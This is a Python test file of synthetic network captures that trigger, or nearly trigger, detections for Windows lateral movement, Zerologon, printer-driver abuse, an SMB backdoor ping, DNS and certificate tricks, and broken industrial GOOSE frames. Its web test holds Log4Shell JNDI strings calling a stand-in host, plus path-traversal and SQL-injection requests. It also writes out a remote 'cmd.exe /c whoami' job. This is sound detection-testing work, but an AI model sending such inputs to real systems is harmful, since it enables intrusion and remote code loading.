"""Detections among Windows machines and on the way between them, each with a capture that fires it and one that comes
close: see detections.py."""
import struct

import windows_wire as w
from detections import HMI, OTHER, PLC, close, fires
from wire import Host, ethernet, ip4, udp

FILES = Host("10.9.2.30", "00:50:56:09:02:30")
DC = Host("10.9.2.31", "00:50:56:09:02:31")
DC2 = Host("10.9.2.32", "00:50:56:09:02:32")


def rpc(net, interface, level=0, client=OTHER, server=FILES):
    return w.Rpc(net.connect(client, server, 49670), interface, level)


def smb(net):
    talk = w.Smb2(net.connect(OTHER, FILES, 445))
    talk.log_in()
    return talk


# --- what is asked of another machine -------------------------------------------------------------

@fires("net.remote-service")
def _(net):
    talk = smb(net)
    talk.pipe("svcctl", w.SVCCTL)
    talk.call(12, w.create_service("Updater", r"C:\Windows\upd.exe"), bytes(28))


@close("net.remote-service")
def _(net):
    # Which services there are, and how one of them is.
    talk = rpc(net, w.SVCCTL)
    talk.call(15, w.unique("\\\\FILES") + bytes(8), bytes(24))
    talk.call(42, w.HANDLE + bytes(20), bytes(24))
    talk.call(16, w.HANDLE + w.string("Spooler") + bytes(4), bytes(24))
    talk.call(6, w.HANDLE, bytes(32))
    talk.call(0, w.HANDLE, bytes(24))


@fires("net.remote-task")
def _(net):
    rpc(net, w.TASKS, w.PRIVACY).call(1, bytes(64))
    rpc(net, w.ATSVC).call(0, w.job("cmd.exe /c whoami"), bytes(8))


@close("net.remote-task")
def _(net):
    rpc(net, w.TASKS).call(7, w.unique("\\") + bytes(16))


@fires("net.remote-registry")
def _(net):
    rpc(net, w.WINREG).call(22, w.HANDLE + w.counted("Run") + bytes(12))


@close("net.remote-registry")
def _(net):
    rpc(net, w.WINREG).call(17, w.HANDLE + w.counted("Run") + bytes(24), bytes(24))


@fires("net.remote-wmi")
def _(net):
    rpc(net, w.WBEM, w.PRIVACY).call(24, bytes(64), bytes(64))


@close("net.remote-wmi")
def _(net):
    # Monitoring asks this all day.
    rpc(net, w.WBEM, w.PRIVACY).call(20, bytes(64), bytes(64))


@fires("net.account-changed")
def _(net):
    rpc(net, w.SAMR).call(50, w.HANDLE + bytes(32))


@close("net.account-changed")
def _(net):
    # Somebody changes his own password.
    rpc(net, w.SAMR).call(55, bytes(64))


@fires("net.log-cleared")
def _(net):
    rpc(net, w.EVENTLOG).call(0, w.HANDLE + bytes(4))


@close("net.log-cleared")
def _(net):
    rpc(net, w.EVENTLOG).call(10, w.HANDLE + bytes(12))


@fires("net.forced-login")
def _(net):
    rpc(net, ("c681d488-d850-11d0-8c52-00c04fd90f7e", 1)).call(0, w.string(r"\\10.9.2.66\x"))


@close("net.forced-login")
def _(net):
    rpc(net, w.LSARPC).call(44, w.unique("\\\\FILES") + bytes(24), bytes(24))


@fires("net.admin-share")
def _(net):
    smb(net).connect_tree(r"\\FILES\C$")


@close("net.admin-share")
def _(net):
    # Hidden, and open to whoever may: no share of administrators.
    smb(net).connect_tree(r"\\FILES\recipes$")


@fires("net.program-copied")
def _(net):
    talk = smb(net)
    talk.connect_tree(r"\\FILES\data")
    talk.create(r"tools\update.exe", disposition=5)


@close("net.program-copied")
def _(net):
    # A program that is there is read; a report is written.
    talk = smb(net)
    talk.connect_tree(r"\\FILES\data")
    talk.create(r"tools\update.exe", access=0x120089)
    talk.create(r"update.exe.txt", disposition=5)


@fires("net.remote-tool")
def _(net):
    talk = smb(net)
    talk.connect_tree(r"\\FILES\IPC$", w.PIPE)
    talk.create("PSEXESVC-OFFICE-7-4242-stdin")


@close("net.remote-tool")
def _(net):
    talk = smb(net)
    talk.connect_tree(r"\\FILES\IPC$", w.PIPE)
    talk.create("svcctl")


@fires("net.directory-copied")
def _(net):
    rpc(net, w.DRSUAPI, w.PRIVACY, OTHER, DC).call(3, bytes(64), bytes(64))


@close("net.directory-copied")
def _(net):
    # Two domain controllers ask each other.
    rpc(net, w.DRSUAPI, w.PRIVACY, DC, DC2).call(3, bytes(64), bytes(64))
    rpc(net, w.DRSUAPI, w.PRIVACY, DC2, DC).call(3, bytes(64), bytes(64))


# --- known attacks ----------------------------------------------------------------------------------

@fires("net.zerologon")
def _(net):
    rpc(net, w.NETLOGON, server=DC).call(26, w.authenticate("DC$", bytes(8)), bytes(12) + struct.pack("<I", 0xc0000022))


@close("net.zerologon")
def _(net):
    rpc(net, w.NETLOGON, server=DC).call(26, w.authenticate("DC$", b"\0" * 7 + b"\1"), bytes(16))


@fires("net.printer-driver")
def _(net):
    rpc(net, w.SPOOLSS).call(89, w.unique("\\\\FILES") + bytes(64))


@close("net.printer-driver")
def _(net):
    rpc(net, w.SPOOLSS).call(10, w.unique("\\\\FILES") + bytes(64))


def ping_backdoor(net, number):
    """A ping with number 65, answered with this one."""
    def message(flags, status, mid):
        head = b"\xffSMB\x32" + struct.pack("<IBH", status, flags, 0xc807) + bytes(12) + struct.pack("<HHHH", 8, 0xfeff, 8, mid)
        words = struct.pack("<HHHHBBHIHHHHHBBH", 12, 0, 1, 0, 0, 0, 0, 0, 0, 12, 66, 0, 0, 1, 0, 14) if not status else b""
        data = head + struct.pack("<B", len(words) // 2) + words + (struct.pack("<H", 13) + bytes(13) if words else bytes(2))
        return struct.pack(">I", len(data)) + data
    net.connect(OTHER, FILES, 445).talk((message(0x18, 0, 65), message(0x98, 0xc0000002, number)))


@fires("net.backdoor")
def _(net):
    ping_backdoor(net, 81)


@close("net.backdoor")
def _(net):
    ping_backdoor(net, 65)


def ask_web(net, *requests):
    c = net.connect(OTHER, FILES, 80)
    for request in requests:
        c.talk((request, b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n"))


def get(path, *headers):
    return "\r\n".join((f"GET {path} HTTP/1.1", "Host: files", *headers, "", "")).encode()


def post(form):
    return f"POST /login HTTP/1.1\r\nHost: files\r\nContent-Type: application/x-www-form-urlencoded\r\n" \
        f"Content-Length: {len(form)}\r\n\r\n{form}".encode()


@fires("net.web-exploit")
def _(net):
    ask_web(net, get("/", "X-Api-Version: ${jndi:ldap://10.9.2.66/a}"), post("user=%24%7Bjndi%3Aldap%3A%2F%2F10.9.2.66%7D"),
            get("/cgi-bin/.%2e/.%2e/bin/x"), get("/?q=1%2527%20union%20select%20name"), get("/", "Host: other"))


@close("net.web-exploit")
def _(net):
    # A page that climbs in the open, one about a union, one with a blank and a brace in a header.
    ask_web(net, get("/help/../index.html"), get("/union/select.html?q=50%25"), post("note=%7B%22union%22%3A1%7D"),
            get("/", 'Cookie: view={"a":1}'))


def answer_name(net, size):
    """An address, in a record that says it is so long."""
    question = b"\3plc\5plant\0" + struct.pack(">HH", 1, 1)
    head = struct.pack(">HHHHHH", 7, 0x8180, 1, 1, 0, 0)
    net.datagram(HMI, FILES, 50001, 53, struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + question)
    alias = b"\3www\5plant\0"
    net.datagram(FILES, HMI, 53, 50001, head + question + b"\xc0\x0c" + struct.pack(">HHIH", 5, 1, 60, size) + alias + bytes(8))


@fires("net.dns-exploit")
def _(net):
    answer_name(net, 5)


@close("net.dns-exploit")
def _(net):
    # Behind a record that is right, something is left over: sloppy, no trap.
    question = b"\3plc\5plant\0" + struct.pack(">HH", 1, 1)
    net.datagram(HMI, FILES, 50001, 53, struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + question)
    net.datagram(FILES, HMI, 53, 50001, struct.pack(">HHHHHH", 7, 0x8183, 1, 0, 0, 0) + question)


def der(tag, content):
    size = bytes([len(content)]) if len(content) < 128 else b"\x82" + struct.pack(">H", len(content))
    return bytes([tag]) + size + content


def show_certificate(net, curve):
    """A server hello and a certificate whose key lies on this curve."""
    name = der(0x30, der(0x31, der(0x30, der(6, b"\x55\x04\x03") + der(12, b"files.plant"))))
    signature = der(0x30, der(6, bytes.fromhex("2a8648ce3d040302")))
    key = der(0x30, der(0x30, der(6, bytes.fromhex("2a8648ce3d0201")) + curve) + der(3, bytes(66)))
    times = der(0x30, der(0x17, b"230101000000Z") + der(0x17, b"330101000000Z"))
    body = der(0x30, der(0xa0, der(2, b"\2")) + der(2, b"\x11") + signature + name + times + name + key)
    certificate = der(0x30, body + signature + der(3, bytes(66)))

    def three(n):
        return n.to_bytes(3, "big")

    def handshake(kind, content):
        return bytes([kind]) + three(len(content)) + content

    def record(content):
        return struct.pack(">BHH", 22, 0x303, len(content)) + content
    hello = record(handshake(1, b"\3\3" + bytes(32) + b"\0" + struct.pack(">HH", 2, 0xc02b) + b"\1\0"))
    answer = handshake(2, b"\3\3" + bytes(32) + b"\0" + struct.pack(">HB", 0xc02b, 0)) + \
        handshake(11, three(len(certificate) + 3) + three(len(certificate)) + certificate)
    net.connect(HMI, FILES, 443).talk((hello, record(answer)))


@fires("net.bad-certificate")
def _(net):
    show_certificate(net, der(0x30, der(2, b"\1") + der(4, bytes(32))))


@close("net.bad-certificate")
def _(net):
    show_certificate(net, der(6, bytes.fromhex("2a8648ce3d030107")))


@fires("net.malware-name")
def _(net):
    talk = smb(net)
    talk.connect_tree(r"\\FILES\data")
    talk.create(r"tasksche.exe", access=0x120089)


@close("net.malware-name")
def _(net):
    talk = smb(net)
    talk.connect_tree(r"\\FILES\data")
    talk.create(r"taskschd.exe", access=0x120089)


def fragments(net, second):
    """A datagram in two pieces, of which the first comes again: with these bytes."""
    packet = udp(ip4("10.9.2.66"), FILES.ip, 50001, 9, bytes(56))[1][20:]

    def piece(at, more, data):
        head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(data), 7, (0x2000 if more else 0) | at // 8, 64, 17, 0,
                           OTHER.ip, FILES.ip)
        net.frame(ethernet(OTHER.mac, FILES.mac, 0x0800, head + data))
    piece(0, True, packet[:32])
    piece(0, True, second or packet[:32])
    piece(32, False, packet[32:])


@fires("net.fragments")
def _(net):
    fragments(net, b"Z" * 32)


@close("net.fragments")
def _(net):
    # The same piece twice, byte by byte: a network that repeats itself.
    fragments(net, None)


def publish(net, parts):
    body = b"".join(bytes([tag, len(content)]) + content for tag, content in parts)
    pdu = b"\x61\x81" + bytes([len(body)]) + body
    payload = struct.pack(">HHHH", 1, 8 + len(pdu), 0, 0) + pdu
    net.frame(ethernet(PLC.mac, b"\x01\x0c\xcd\x01\x00\x01", 0x88b8, payload))


GOOSE = [(0x80, b"IED1/LLN0$GO$gcb1"), (0x81, b"\x07\xd0"), (0x82, b"IED1/LLN0$Trip"), (0x83, b"trip1"), (0x84, bytes(8)),
         (0x85, b"\1"), (0x86, b"\0"), (0x87, b"\0"), (0x88, b"\1"), (0x89, b"\0"), (0x8a, b"\1"), (0xab, b"\x83\1\0")]


@fires("ot.goose-broken")
def _(net):
    publish(net, [part for part in GOOSE if part[0] != 0x88])


@close("ot.goose-broken")
def _(net):
    # The name of the application may be left out.
    publish(net, [part for part in GOOSE if part[0] != 0x83])
